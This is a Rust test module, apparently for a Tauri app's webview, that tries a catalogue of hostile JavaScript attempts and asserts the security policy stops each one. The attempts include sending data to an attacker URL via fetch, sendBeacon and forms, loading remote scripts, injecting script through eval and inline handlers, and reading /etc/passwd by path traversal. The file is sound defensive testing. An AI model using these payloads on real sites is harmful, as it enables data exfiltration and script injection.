//! A page that is hostile itself: somebody's script runs in it, and tries to get out, to load more, to stay.
//!
//! Invariant: a row that the security policy stops is proved by the policy's own report, one that throws by what it throws,
//! and every row by what is said in [`super::attacker`].

use crate::kit::*;
use Proof::*;
use serde_json::{Value, json};

#[derive(Clone, Copy, Debug)]
enum Proof {
    /// The policy reports this directive.
    Policy(&'static str),
    /// It throws, or its promise is rejected.
    Throws,
    /// Nothing happens: neither the page nor anybody else is another afterwards.
    Nothing,
    /// The script itself says so, by returning true.
    Says,
}

type Attack = (&'static str, Proof, &'static str);

/// To the attacker's server, at `url`.
const REACHING_OUT: &[Attack] = &[
    ("fetch", Policy("connect-src"), "await fetch(url)"),
    (
        "fetch without an answer",
        Policy("connect-src"),
        "await fetch(url, { mode: 'no-cors', method: 'POST', body: 'x' })",
    ),
    ("XMLHttpRequest", Policy("connect-src"), "const ask = new XMLHttpRequest(); ask.open('GET', url); ask.send()"),
    ("WebSocket", Policy("connect-src"), "new WebSocket(url.replace('http', 'ws'))"),
    ("EventSource", Policy("connect-src"), "new EventSource(url)"),
    ("sendBeacon", Policy("connect-src"), "navigator.sendBeacon(url, 'x')"),
    ("a ping on a link", Nothing, "const a = add('a', { href: '#', ping: url }); a.click()"),
    ("an image", Policy("img-src"), "add('img', { src: url })"),
    ("an image that was never added", Policy("img-src"), "new Image().src = url"),
    ("a picture in SVG", Policy("img-src"), "html(`<svg><image href='${url}'/></svg>`)"),
    ("a background", Policy("img-src"), "document.body.style.backgroundImage = `url(${url})`"),
    ("a font", Policy("font-src"), "await new FontFace('x', `url(${url})`).load()"),
    ("a film", Policy("media-src"), "add('video', { src: url })"),
    ("a script", Policy("script-src"), "add('script', { src: url })"),
    ("a module", Policy("script-src"), "await import(url)"),
    ("a style sheet", Policy("style-src"), "add('link', { rel: 'stylesheet', href: url })"),
    ("a style sheet imported", Policy("style-src"), "html(`<style>@import '${url}';</style>`)"),
    ("a preloaded script", Policy("script-src"), "add('link', { rel: 'preload', as: 'script', href: url })"),
    ("a prefetched page", Nothing, "add('link', { rel: 'prefetch', href: url })"),
    ("a connection made early", Nothing, "add('link', { rel: 'preconnect', href: url })"),
    ("a frame", Policy("frame-src"), "add('iframe', { src: url })"),
    ("an object", Policy("object-src"), "add('object', { data: url, type: 'text/html', hidden: false })"),
    ("an embedded thing", Policy("object-src"), "add('embed', { src: url, type: 'text/html', hidden: false })"),
    ("a worker", Throws, "new Worker(url)"),
    ("a shared worker", Throws, "new SharedWorker(url)"),
    ("a service worker", Throws, "await navigator.serviceWorker.register(url)"),
    ("a form sent", Policy("form-action"), "add('form', { action: url, method: 'post' }).submit()"),
    ("a base for all addresses", Policy("base-uri"), "add('base', { href: url }, document.head)"),
    ("WebRTC", Throws, "new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(url).host }] })"),
];

/// Away from the page, or to a second one.
const GOING_AWAY: &[Attack] = &[
    ("location", Nothing, "location.href = url"),
    ("location.replace", Nothing, "location.replace(url)"),
    ("a refresh", Nothing, "add('meta', { httpEquiv: 'refresh', content: `0;url=${url}` }, document.head)"),
    ("a link", Nothing, "add('a', { href: url }).click()"),
    ("a link to a new window", Nothing, "add('a', { href: url, target: '_blank' }).click()"),
    ("a link that downloads", Nothing, "add('a', { href: url, download: 'x.desktop' }).click()"),
    ("window.open", Nothing, "window.open(url)"),
    ("window.open of nothing", Nothing, "window.open('about:blank', '_blank', 'width=100')"),
    ("a host that is called like ours", Nothing, "location.href = url.replace('127.0.0.1', 'tauri.localhost')"),
    ("a file", Nothing, "location.href = 'file:///etc/passwd'"),
    ("a page in its own address", Nothing, "location.href = 'data:text/html,<script>__pwned = 1</script>'"),
    ("a page of bytes", Nothing, "location.href = URL.createObjectURL(new Blob(['x'], { type: 'text/html' }))"),
    ("a script as an address", Policy("script-src"), "location.href = 'javascript:void(window.__pwned = 1)'"),
    ("another program's address", Nothing, "location.href = 'slack://open'"),
    (
        "mail and telephone",
        Nothing,
        "add('a', { href: 'mailto:ben@example.com' }).click(); location.href = 'tel:5550100'",
    ),
    (
        "a file dropped on the page",
        Nothing,
        "const data = new DataTransfer(); data.setData('text/uri-list', url);
      document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true }))",
    ),
];

/// More script than there is.
const MORE_SCRIPT: &[Attack] = &[
    ("eval", Throws, "eval('window.__pwned = 1')"),
    ("a function of text", Throws, "new Function('window.__pwned = 1')()"),
    ("a timer of text", Policy("script-src"), "setTimeout('window.__pwned = 1', 0)"),
    ("a script written here", Policy("script-src"), "add('script', { textContent: 'window.__pwned = 1' })"),
    (
        "a script of bytes",
        Policy("script-src"),
        "add('script', { src: URL.createObjectURL(new Blob(['window.__pwned = 1'])) })",
    ),
    (
        "a script in its own address",
        Policy("script-src"),
        "add('script', { src: 'data:text/javascript,window.__pwned=1' })",
    ),
    ("a module in its own address", Policy("script-src"), "await import('data:text/javascript,window.__pwned=1')"),
    ("a handler in the markup", Policy("script-src"), "html('<img src=\"data:,\" onerror=\"window.__pwned = 1\">')"),
    (
        "a handler set as text",
        Policy("script-src"),
        "const b = add('button', {}); b.setAttribute('onclick', 'window.__pwned = 1'); b.click()",
    ),
    (
        "SVG that runs when it moves",
        Policy("script-src"),
        "html('<svg><rect><animate attributeName=\"x\" dur=\"1s\" onbegin=\"window.__pwned = 1\"/></rect></svg>')",
    ),
    ("a link to a script", Policy("script-src"), "add('a', { href: 'javascript:window.__pwned = 1' }).click()"),
    (
        "a frame with a page inside",
        Policy("script-src"),
        "const frame = add('iframe', { srcdoc: '<script>parent.__pwned = 1</script>' });
      await new Promise(loaded => { frame.onload = loaded; })",
    ),
    ("a frame of a script", Policy("script-src"), "add('iframe', { src: 'javascript:parent.__pwned = 1' })"),
    ("a worker of bytes", Throws, "new Worker(URL.createObjectURL(new Blob(['1'])))"),
    ("styles written here", Policy("style-src"), "html('<style>body { display: none }</style>')"),
    ("a style in the markup", Policy("style-src"), "html('<p style=\"position: fixed; inset: 0\">You are safe</p>')"),
    ("a prototype spoilt for all", Says, "Object.prototype.id = 'x'; return ({}).id === undefined"),
    (
        "a prototype spoilt by JSON",
        Says,
        "Object.assign({}, JSON.parse('{\"__proto__\": {\"id\": \"x\"}}')); return ({}).id === undefined",
    ),
];

/// Files and devices of the computer.
const LOOKING_AROUND: &[Attack] = &[
    ("a file by fetch", Throws, "await fetch('file:///etc/passwd')"),
    ("a file as an asset", Throws, "await fetch('asset://localhost//etc/passwd')"),
    (
        "a file beside the pages",
        Says,
        "for (const path of ['../../etc/passwd', '..%2f..%2fetc/passwd', '/%2e%2e/etc/passwd', '//etc/passwd']) {
        const text = await fetch('tauri://localhost/' + path).then(answer => answer.text(), () => '');
        if (text.includes('root:')) return false;
      }
      return true",
    ),
    ("the clipboard", Throws, "await navigator.clipboard.readText()"),
    ("the microphone", Throws, "await navigator.mediaDevices.getUserMedia({ audio: true })"),
    ("the place", Throws, "await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))"),
    ("Tauri's own object", Says, "return window.__TAURI__ === undefined"),
];

const TABLES: [&[Attack]; 4] = [REACHING_OUT, GOING_AWAY, MORE_SCRIPT, LOOKING_AROUND];

pub fn count() -> usize {
    TABLES.iter().map(|table| table.len()).sum()
}

/// Runs `ATTACK`, and says what came of it: what the policy reported, what was thrown, what was returned.
const RUN: &str = r#"
const [url, directive] = arguments;
const add = (tag, properties, parent = document.body) =>
    parent.appendChild(Object.assign(document.createElement(tag), { hidden: true }, properties));
const html = text => document.body.appendChild(Object.assign(document.createElement("div"), { innerHTML: text }));
const reports = [];
let reported;
const first = new Promise(resolve => { reported = resolve; });
const hear = report => { reports.push(report.effectiveDirective); if (report.effectiveDirective.startsWith(directive)) reported(); };
document.addEventListener("securitypolicyviolation", hear);
const before = new Set(document.querySelectorAll("*"));
const late = new Promise(resolve => setTimeout(resolve, 3000));
const outcome = {};
try {
    const attack = (async () => { ATTACK })();
    outcome.returned = await Promise.race([attack, directive ? first : late, late]);
} catch (fault) {
    outcome.thrown = String(fault);
}
if (directive) await Promise.race([first, late]);
document.removeEventListener("securitypolicyviolation", hear);
document.querySelectorAll("*").forEach(thing => before.has(thing) || thing.remove());
document.body.removeAttribute("style");
return { ...outcome, reports };
"#;

async fn in_vain(table: &[Attack]) {
    let (night, attacker) = Night::under_attack().await;
    let page = night.page().await;
    page.mark().await;
    let mut broken = Vec::new();
    for (name, proof, script) in table {
        let directive = if let Policy(directive) = proof { directive } else { "" };
        let outcome = page.run(&RUN.replace("ATTACK", script), json!([attacker.url(), directive])).await;
        if !proof.is_given(&outcome) {
            broken.push(format!("{name}: {proof:?} is not proved: {outcome}"));
        }
        broken.extend(attacker.gains(&page).await.map(|gain| format!("{name}: {gain}")));
    }
    // What was only slow would have come by now.
    night.slack.post_bot(SECURITY, MONITOR, "the page works as before");
    page.until_says("the page works as before").await;
    broken.extend(attacker.gains(&page).await);
    assert!(broken.is_empty(), "{}", broken.join("\n"));
    drop(page);
    night.end().await;
}

impl Proof {
    fn is_given(self, outcome: &Value) -> bool {
        let begins = |report: &Value, directive| report.as_str().is_some_and(|report| report.starts_with(directive));
        match self {
            Policy(directive) => {
                // A WebKit that knows trusted types stops markup before it comes to that.
                let mut reports = outcome["reports"].as_array().expect("a list").iter();
                reports.any(|one| begins(one, directive) || begins(one, "require-trusted-types-for"))
            }
            Throws => outcome["thrown"].is_string(),
            Says => outcome["returned"] == true,
            // One that throws was never tried.
            Nothing => !outcome["thrown"].is_string(),
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_reaches_nobody() {
    in_vain(REACHING_OUT).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_goes_nowhere() {
    in_vain(GOING_AWAY).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_runs_nothing_more() {
    in_vain(MORE_SCRIPT).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_sees_nothing_of_the_computer() {
    in_vain(LOOKING_AROUND).await;
}
